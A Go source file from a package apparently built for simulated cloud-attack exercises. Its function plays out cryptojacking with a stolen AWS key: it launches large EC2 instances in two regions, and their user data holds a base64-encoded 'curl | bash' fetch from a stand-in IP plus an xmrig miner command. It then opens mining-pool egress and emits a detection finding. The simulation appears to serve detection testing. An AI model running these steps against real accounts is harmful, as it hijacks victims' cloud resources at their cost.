package sandbox

import (
	"encoding/base64"
	"strconv"
)

// playCryptoMining: the stolen key launches big instances in two regions
// with a miner in their user data, and opens egress to a mining pool.
func playCryptoMining(p *player) error {
	c := p.c
	const ec2V = "2016-11-15"
	userData := base64.StdEncoding.EncodeToString([]byte("#!/bin/bash\ncurl -s http://198.51.100.200/x.sh | bash\n./xmrig -o pool.example.net:3333 -u wallet\n"))
	var launched []string
	for _, region := range []string{gameRegion, "us-east-1"} {
		out, err := c.in(region).query("ec2", ec2V, "RunInstances", map[string]string{"ImageId": "ami-0a3c9e7b5d1f24680", "InstanceType": "c5.4xlarge",
			"MinCount": "4", "MaxCount": "4", "UserData": userData,
			"TagSpecification.1.ResourceType": "instance", "TagSpecification.1.Tag.1.Key": "Name", "TagSpecification.1.Tag.1.Value": "batch-worker"})
		if err := p.step("Impact", "ec2:RunInstances 4 × c5.4xlarge in "+region, err); err != nil {
			return err
		}
		ids := xmlFields(out, "instanceId")
		launched = append(launched, ids...)
		for _, id := range ids {
			groups := xmlFields(out, "groupId")
			if len(groups) > 0 {
				_, err := c.in(region).query("ec2", ec2V, "AuthorizeSecurityGroupEgress", map[string]string{"GroupId": groups[0],
					"IpPermissions.1.IpProtocol": "tcp", "IpPermissions.1.FromPort": "3333", "IpPermissions.1.ToPort": "3333",
					"IpPermissions.1.IpRanges.1.CidrIp": "0.0.0.0/0"})
				p.step("CommandAndControl", "ec2:AuthorizeSecurityGroupEgress tcp/3333 to 0.0.0.0/0 on "+groups[0], err)
			}
			if region == gameRegion {
				p.finding(FindingSpec{Type: "CryptoCurrency:EC2/BitcoinTool.B!DNS", Region: region, InstanceID: id})
			}
			break // one egress rule and one finding per launch
		}
		p.metric(region, "AWS/EC2", "CPUUtilization", 99.2)
	}
	p.step("Impact", strconv.Itoa(len(launched))+" instances mining", nil)
	return nil
}
